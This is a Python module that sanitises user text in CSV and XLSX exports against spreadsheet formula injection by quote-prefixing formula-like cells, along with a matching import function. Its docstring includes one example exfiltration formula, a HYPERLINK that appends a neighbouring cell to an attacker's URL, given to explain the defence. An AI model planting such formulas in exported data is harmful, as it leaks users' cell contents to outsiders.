"""Cells holding people's text, made safe for spreadsheets (formula injection, CSV injection).

A spreadsheet takes a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, which some strip first) for a formula: a return's note ``=HYPERLINK("http://…"&B8)``
would send the neighbouring cells to whoever wrote it once someone clicks. Following OWASP's
advice, every export writes such text as text: in CSV behind a ``'`` (which spreadsheets read
as "this is text"), in a workbook as a string cell marked quote-prefixed (:mod:`bot.reports.xlsx`
writes every text as an inline string, so no cell of it can be a formula, and quote-prefixes
what :func:`is_formula_like` finds).
Numbers stay numbers, negative ones included: ``-5`` is not a formula.

Every export (CSV and XLSX report, directory CSV) uses only the functions here.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_NUMBER = re.compile(r"\A[+-]?[0-9]+(\.[0-9]+)?\Z")  # ASCII digits only, to the very end


def is_number(text: str) -> bool:
    """Whether ``text`` is a plain number (``-5``, ``12.50``): a spreadsheet reads it as one."""
    return bool(_NUMBER.match(text))


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula (a plain number is fine)."""
    return text.startswith(FORMULA_STARTS) and not is_number(text)


def csv_cell(value: object) -> object:
    """A CSV cell: text that begins like a formula gets a leading ``'``; the rest is as is."""
    if isinstance(value, str) and is_formula_like(value):
        return QUOTE + value
    return value


def csv_row(values: Sequence[object]) -> list[object]:
    """:func:`csv_cell` on every cell of a row."""
    return [csv_cell(v) for v in values]


def from_csv_cell(text: str) -> str:
    """The text :func:`csv_cell` was given, so an exported file imports as it was."""
    if text.startswith(QUOTE) and is_formula_like(text[1:]):
        return text[1:]
    return text
